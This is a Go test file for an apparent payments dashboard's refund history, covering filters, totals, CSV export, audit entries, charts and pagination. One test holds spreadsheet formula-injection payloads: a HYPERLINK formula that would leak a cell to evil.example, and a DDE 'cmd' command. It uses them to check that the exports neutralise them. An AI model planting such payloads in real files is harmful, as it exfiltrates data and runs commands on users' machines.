package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"paydesk/providers"
	"paydesk/providers/bpc"
	"paydesk/storage"
)

// govCSV downloads a CSV export and returns its header and rows, checking it is an attachment.
func govCSV(t *testing.T, b *browser, path string) ([]string, []map[string]string) {
	t.Helper()
	r := b.get(path)
	if r.status != http.StatusOK {
		t.Fatalf("GET %s: status %d: %.300s", path, r.status, text(r.body))
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("GET %s: content type %q, want text/csv", path, ct)
	}
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
		t.Errorf("GET %s: Content-Disposition %q, want an attachment", path, cd)
	}
	// A UTF-8 byte-order mark first, so spreadsheets read the file as UTF-8 (csv.go).
	body, bom := strings.CutPrefix(r.body, "\uFEFF")
	if !bom {
		t.Errorf("GET %s: the export does not start with a UTF-8 byte-order mark: %q", path, r.body[:min(len(r.body), 20)])
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("GET %s: not CSV: %v\n%s", path, err, r.body)
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, h := range records[0] {
			row[h] = rec[i]
		}
		rows = append(rows, row)
	}
	return records[0], rows
}

// govTotal is one currency's line of the totals table, as the page shows it.
type govTotal struct{ count, amount, succeeded int64 }

var govTotalRe = regexp.MustCompile(`data-testid="total" data-currency="([A-Z]{3})" data-amount="(\d+)" data-count="(\d+)" data-succeeded="(\d+)"`)

func govTotals(body string) map[string]govTotal {
	out := map[string]govTotal{}
	for _, m := range govTotalRe.FindAllStringSubmatch(body, -1) {
		amount, _ := strconv.ParseInt(m[2], 10, 64)
		count, _ := strconv.ParseInt(m[3], 10, 64)
		succ, _ := strconv.ParseInt(m[4], 10, 64)
		out[m[1]] = govTotal{count: count, amount: amount, succeeded: succ}
	}
	return out
}

// govRefundFixture makes refunds of every kind: immediate, approved, rejected, awaiting,
// learnt from the provider; in EUR, GBP and JPY; by sam and max; decided by mia.
func govRefundFixture(t *testing.T, h *harness) []storage.Payment {
	t.Helper()
	sam, max, mia := h.signedIn("sam"), h.signedIn("max"), h.signedIn("mia")
	eur := h.add(bpc.Name, spec{variant: 2, amount: 200000})
	gbp := h.add(bpc.Name, spec{variant: 2, amount: 100000, currency: "GBP"})
	jpy := h.add(bpc.Name, spec{variant: 2, amount: 500000, currency: "JPY", name: "山田 花子"})
	learnt := h.add(bpc.Name, spec{variant: 3, amount: 30000}) // partly refunded at BPC before import

	mustContain(t, govRequestRefund(t, sam, eur, "100.00", "duplicate", ""), "done")
	mustContain(t, govRequestRefund(t, sam, eur, "600.00", "goodwill", ""), "awaiting")
	mustContain(t, govApprove(t, mia, govLastRefund(t, h, eur).ID), "done")
	mustContain(t, govRequestRefund(t, max, eur, "700.00", "fraudulent", ""), "awaiting") // left waiting
	mustContain(t, govRequestRefund(t, max, gbp, "50.00", "requested_by_customer", ""), "done")
	mustContain(t, govRequestRefund(t, sam, gbp, "450.00", "goodwill", ""), "awaiting")
	r := mia.post(fmt.Sprintf("/approvals/%d/reject", govLastRefund(t, h, gbp).ID), url.Values{"decision_reason": {"Not ours to refund"}})
	mustContain(t, r, "was rejected")
	mustContain(t, govRequestRefund(t, sam, jpy, "1000", "product_not_delivered", ""), "done")
	mustContain(t, govRequestRefund(t, sam, jpy, "90000", "other", "Whole order lost"), "awaiting")
	mustContain(t, govApprove(t, mia, govLastRefund(t, h, jpy).ID), "done")
	return []storage.Payment{eur, gbp, jpy, learnt}
}

// govExpected filters every refund of the payments with keep, independently of the page.
func govExpected(t *testing.T, h *harness, payments []storage.Payment, keep func(storage.Refund, storage.Payment) bool) (ids []string, totals map[string]govTotal) {
	t.Helper()
	totals = map[string]govTotal{}
	for _, p := range payments {
		refunds, err := h.db.RefundsOfPayment(context.Background(), p.ID)
		if err != nil {
			t.Fatal(err)
		}
		for _, rf := range refunds {
			if !keep(rf, p) {
				continue
			}
			ids = append(ids, fmt.Sprint(rf.ID))
			tot := totals[rf.Currency]
			tot.count++
			tot.amount += rf.Amount
			if rf.Status == "succeeded" {
				tot.succeeded += rf.Amount
			}
			totals[rf.Currency] = tot
		}
	}
	slices.Sort(ids)
	return ids, totals
}

// TestRefundHistoryTotalsAndCSVMatchTheFilteredRows: for each filter, the page's rows,
// its totals per currency and the CSV export hold exactly the refunds the filter selects.
func TestRefundHistoryTotalsAndCSVMatchTheFilteredRows(t *testing.T) {
	h := newHarness(t)
	payments := govRefundFixture(t, h)
	fran := h.signedIn("fran")
	today := h.clock.Now().UTC().Format("2006-01-02")
	tests := []struct {
		query string
		keep  func(storage.Refund, storage.Payment) bool
	}{
		{"", func(storage.Refund, storage.Payment) bool { return true }},
		{"currency=EUR", func(r storage.Refund, _ storage.Payment) bool { return r.Currency == "EUR" }},
		{"status=succeeded", func(r storage.Refund, _ storage.Payment) bool { return r.Status == "succeeded" }},
		{"status=awaiting_approval", func(r storage.Refund, _ storage.Payment) bool { return r.Status == "awaiting_approval" }},
		{"requested_by=sam%40paydesk.example", func(r storage.Refund, _ storage.Payment) bool { return r.RequestedBy == "sam@paydesk.example" }},
		{"approved_by=MIA%40paydesk.example", func(r storage.Refund, _ storage.Payment) bool {
			return r.DecidedBy == "mia@paydesk.example" && r.Status != "rejected"
		}},
		{"reason=goodwill&provider=bpc", func(r storage.Refund, _ storage.Payment) bool { return r.Reason == "goodwill" }},
		{"reason=provider", func(r storage.Refund, _ storage.Payment) bool { return r.Reason == "provider" }},
		{"provider=tranzzo", func(storage.Refund, storage.Payment) bool { return false }},
		{"from=" + today + "&to=" + today, func(r storage.Refund, _ storage.Payment) bool {
			return r.RequestedAt.UTC().Format("2006-01-02") == today
		}},
		{"status=succeeded&currency=JPY&from=" + today, func(r storage.Refund, _ storage.Payment) bool {
			return r.Status == "succeeded" && r.Currency == "JPY" && r.RequestedAt.UTC().Format("2006-01-02") >= today
		}},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			wantIDs, wantTotals := govExpected(t, h, payments, tt.keep)
			page := fran.get("/refunds?" + tt.query)
			if page.status != http.StatusOK {
				t.Fatalf("status %d: %.500s", page.status, text(page.body))
			}
			var pageIDs []string
			for _, m := range regexp.MustCompile(`data-testid="refund-history-row" data-refund="(\d+)"`).FindAllStringSubmatch(page.body, -1) {
				pageIDs = append(pageIDs, m[1])
			}
			slices.Sort(pageIDs)
			if !slices.Equal(pageIDs, wantIDs) {
				t.Errorf("page rows %v, want %v", pageIDs, wantIDs)
			}
			if got := govTotals(page.body); fmt.Sprint(got) != fmt.Sprint(wantTotals) {
				t.Errorf("page totals %v, want %v", got, wantTotals)
			}

			csvURL := attr(page.body, "csv-link", "href")
			if want := "/refunds.csv"; !strings.HasPrefix(csvURL, want) {
				t.Fatalf("CSV link %q", csvURL)
			}
			header, rows := govCSV(t, fran, csvURL)
			if header[0] != "refund_id" || !slices.Contains(header, "amount_minor") || !slices.Contains(header, "currency") {
				t.Errorf("CSV header %v", header)
			}
			var csvIDs []string
			csvTotals := map[string]govTotal{}
			for _, row := range rows {
				csvIDs = append(csvIDs, row["refund_id"])
				minor, err := strconv.ParseInt(row["amount_minor"], 10, 64)
				if err != nil {
					t.Fatalf("amount_minor %q: %v", row["amount_minor"], err)
				}
				if major, err := providers.ParseMajor(row["amount"], row["currency"]); err != nil || major != minor {
					t.Errorf("row %s: amount %q %s is not %d minor units", row["refund_id"], row["amount"], row["currency"], minor)
				}
				tot := csvTotals[row["currency"]]
				tot.count++
				tot.amount += minor
				if row["status"] == "succeeded" {
					tot.succeeded += minor
				}
				csvTotals[row["currency"]] = tot
			}
			slices.Sort(csvIDs)
			if !slices.Equal(csvIDs, wantIDs) {
				t.Errorf("CSV rows %v, want %v", csvIDs, wantIDs)
			}
			if fmt.Sprint(csvTotals) != fmt.Sprint(wantTotals) {
				t.Errorf("CSV totals %v, want %v", csvTotals, wantTotals)
			}
		})
	}

	// Every export is in the audit log, with who and what filter.
	exports, err := h.db.ListAudit(context.Background(), storage.AuditFilter{Kind: "export"})
	if err != nil || len(exports) != len(tests) {
		t.Fatalf("export audit entries = %d (%v), want %d", len(exports), err, len(tests))
	}
	for _, e := range exports {
		if e.Actor != "fran@paydesk.example" || !strings.HasPrefix(e.Message, "exported refunds as CSV: ") {
			t.Errorf("export audit entry %+v", e)
		}
	}
	if !strings.Contains(exports[len(exports)-1].Message, "no filter (every row)") ||
		!strings.Contains(exports[len(exports)-2].Message, "currency=EUR") {
		t.Errorf("the export entries do not say which filter: %q, %q", exports[len(exports)-1].Message, exports[len(exports)-2].Message)
	}
}

// TestRefundCSVNeutralisesFormulas: cells a spreadsheet would run — a customer name or a
// note starting with =, +, - or @ — come out as text.
func TestRefundCSVNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	p := h.add(bpc.Name, spec{variant: 2, amount: 100000, name: evil})
	sam := h.signedIn("sam")
	notes := []string{"+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1", "plain note, = inside is fine"}
	for _, n := range notes {
		mustContain(t, govRequestRefund(t, sam, p, "1.00", "other", n), "done")
	}
	_, rows := govCSV(t, h.signedIn("fran"), "/refunds.csv")
	if len(rows) != len(notes) {
		t.Fatalf("%d rows, want %d", len(rows), len(notes))
	}
	seen := map[string]bool{}
	for _, row := range rows {
		if row["customer"] != "'"+evil {
			t.Errorf("customer cell %q, want it neutralised with a leading quote", row["customer"])
		}
		seen[row["note"]] = true
	}
	for _, n := range notes {
		want := n
		if strings.ContainsAny(n[:1], "=+-@") {
			want = "'" + n
		}
		if !seen[want] {
			t.Errorf("note %q missing from the CSV as %q (got %v)", n, want, seen)
		}
	}
	// And the page shows the name as text, escaped.
	page := h.signedIn("fran").get("/refunds")
	if strings.Contains(page.body, `<a href="http://evil.example`) {
		t.Errorf("the customer name became markup")
	}
	mustContain(t, page, evil)
}

// TestRefundHistoryChart: one accessible SVG chart per currency, drawn on the server,
// with the same data as a table; the bars add up to what succeeded.
func TestRefundHistoryChart(t *testing.T) {
	h := newHarness(t)
	govRefundFixture(t, h)
	page := h.signedIn("max").get("/refunds")
	charts := regexp.MustCompile(`<svg [^>]*data-testid="chart" data-currency="([A-Z]{3})"`).FindAllStringSubmatch(page.body, -1)
	var currencies []string
	for _, c := range charts {
		currencies = append(currencies, c[1])
	}
	if strings.Join(currencies, ",") != "EUR,GBP,JPY" {
		t.Fatalf("charts for %v, want one per currency EUR, GBP, JPY", currencies)
	}
	for _, want := range []string{`role="img"`, `<title id="chart-eur-title">Refunded per day in EUR</title>`, `<desc id="chart-eur-desc">`} {
		if !strings.Contains(page.body, want) {
			t.Errorf("the chart lacks %s", want)
		}
	}
	totals := govTotals(page.body)
	for _, cur := range currencies {
		svg := regexpFind(page.body, `(?s)(<svg [^>]*data-currency="`+cur+`".*?</svg>)`)
		var sum int64
		for _, m := range regexp.MustCompile(`data-testid="bar" data-amount="(\d+)"`).FindAllStringSubmatch(svg, -1) {
			v, _ := strconv.ParseInt(m[1], 10, 64)
			sum += v
		}
		if sum != totals[cur].succeeded {
			t.Errorf("%s bars add up to %d, want the succeeded total %d", cur, sum, totals[cur].succeeded)
		}
	}
	mustContain(t, page, "The same data as a table", "Amounts in different currencies are never added together.")
	if strings.Contains(page.body, "<script>") {
		t.Errorf("the refund history has inline script")
	}
	// Filtered to what never succeeded: totals, but nothing refunded to draw.
	mustContain(t, h.signedIn("fran").get("/refunds?status=rejected"), "nothing was refunded")
}

func TestRefundHistoryPages(t *testing.T) {
	h := newHarness(t)
	sam := h.signedIn("sam")
	var want []string
	payments := []storage.Payment{h.add(bpc.Name, spec{variant: 2, amount: 100000}), h.add(bpc.Name, spec{variant: 2, amount: 100000})}
	for i := 0; i < 53; i++ {
		p := payments[i%2]
		mustContain(t, govRequestRefund(t, sam, p, "1.00", "duplicate", ""), "done")
		want = append(want, fmt.Sprint(govLastRefund(t, h, p).ID))
	}
	fran := h.signedIn("fran")
	first := fran.get("/refunds?currency=EUR&bucket=week")
	rowRe := regexp.MustCompile(`data-testid="refund-history-row" data-refund="(\d+)"`)
	var got []string
	for _, m := range rowRe.FindAllStringSubmatch(first.body, -1) {
		got = append(got, m[1])
	}
	if len(got) != 50 {
		t.Fatalf("first page has %d rows, want 50", len(got))
	}
	next := attr(first.body, "next", "href")
	if !strings.Contains(next, "currency=EUR") || !strings.Contains(next, "bucket=week") || !strings.Contains(next, "after=") {
		t.Errorf("next link %q does not keep the filters", next)
	}
	second := fran.get(next)
	for _, m := range rowRe.FindAllStringSubmatch(second.body, -1) {
		got = append(got, m[1])
	}
	if attr(second.body, "next", "href") != "" || attr(second.body, "first", "href") == "" {
		t.Errorf("the last page has a next link or no link back to the newest")
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("the two pages hold %d refunds %v, want each of the %d exactly once", len(got), got, len(want))
	}
	mustContain(t, first, "53")
}

func TestRefundHistoryBadFilters(t *testing.T) {
	h := newHarness(t)
	fran := h.signedIn("fran")
	for _, tt := range []struct{ query, want string }{
		{"currency=EURO", `"EURO" is not a currency code`},
		{"status=lost", `Unknown refund status "lost"`},
		{"reason=whim", `Unknown refund reason "whim"`},
		{"provider=paypal", `Unknown provider "paypal"`},
		{"from=31/01/2026", "The From date must look like 2026-01-31."},
		{"from=2026-02-01&to=2026-01-01", "The From date is after the To date."},
		{"after=abc", "This page link is damaged"},
		{"bucket=year", `Unknown chart bucket "year"`},
	} {
		r := fran.get("/refunds?" + tt.query)
		if r.status != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 400", tt.query, r.status)
		}
		mustContain(t, r, tt.want)
		if tt.query != "after=abc" && tt.query != "bucket=year" {
			if r := fran.get("/refunds.csv?" + tt.query); r.status != http.StatusBadRequest || strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
				t.Errorf("CSV %s: status %d %s, want a 400 page", tt.query, r.status, r.header.Get("Content-Type"))
			}
		}
	}
}
